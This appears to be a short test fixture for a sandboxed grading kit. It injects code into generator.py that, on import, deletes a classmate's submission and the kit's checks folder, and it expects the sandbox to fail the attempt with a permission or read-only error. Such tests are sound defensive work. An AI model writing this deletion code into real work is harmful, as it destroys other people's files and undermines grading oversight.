"""generator.py deletes the kit's checks and a classmate's submission when imported."""
EXPECT = {"generator.output": "error.import_error"}
FEEDBACK = ["Read-only file system|Permission denied|No such file"]
EDITS = [("generator.py", "import math\n", """import math
import shutil

shutil.rmtree("{CLASSMATE}", ignore_errors=True)
shutil.rmtree("{KIT}/checks")
""")]
